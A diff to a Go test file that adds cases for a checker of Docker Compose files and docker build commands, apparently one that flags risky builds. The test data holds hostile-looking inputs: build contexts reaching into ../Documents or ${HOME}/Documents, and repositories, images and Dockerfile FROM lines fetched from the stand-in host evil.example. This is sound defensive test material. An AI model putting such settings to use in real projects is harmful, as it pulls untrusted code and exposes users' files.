@@ -65,6 +65,8 @@ func TestBuildsOfComposeFiles(t *testing.T) {
 		{"a folder elsewhere", "compose.yml", inService("additional_contexts: {h: ../Documents}"), build, "reads outside"},
 		{"one by a variable", "compose.yml", inService("context: ${HOME}/Documents"), build, "reads outside"},
 		{"one that nobody knows", "compose.yml", inService("context: ${D}"), build, "is fetched and built"},
+		{"a Dockerfile elsewhere", "compose.yml", inService("context: src\ndockerfile: ../../D"), build, "reads outside"},
+		{"a Dockerfile above its folder", "compose.yml", inService("context: src\ndockerfile: ../Dockerfile"), build, ""},
 		{"a repository", "compose.yml", "services: {a: {build: 'https://evil.example/x.git'}}", build, "is fetched and built"},
 		{"an image of another host", "compose.yml", inService("additional_contexts: [b=docker-image://evil.example/x]"), build, "evil.example"},
 		{"a file of another host", "compose.yml", "include: ['oci://evil.example/x']\n", build, "is fetched and built"},
@@ -91,6 +93,20 @@ func TestBuildsOfComposeFiles(t *testing.T) {
 		told := composeReasons(t, test.file, test.text, test.line)
 		if got := strings.Join(told, "; "); (got == "") != (test.want == "") || !strings.Contains(got, test.want) {
 			t.Errorf("%s: %q, want %q", test.name, got, test.want)
+		}
+	}
+}
+
+// TestDockerfilesOfOtherNames: nobody was asked of their hosts when they were written.
+func TestDockerfilesOfOtherNames(t *testing.T) {
+	for line, want := range map[string]string{
+		"docker build -f image.txt .":                             "evil.example",
+		"docker build -f- . <<'E'\nFROM evil.example/x\nE":        "evil.example",
+		"docker build -f- . <<'E'\nFROM python:3.12\nRUN true\nE": "",
+	} {
+		told := composeReasons(t, "image.txt", "FROM evil.example/x\n", line)
+		if got := strings.Join(told, "; "); (got == "") != (want == "") || !strings.Contains(got, want) {
+			t.Errorf("%s: %q, want %q", line, got, want)
 		}
 	}
 }
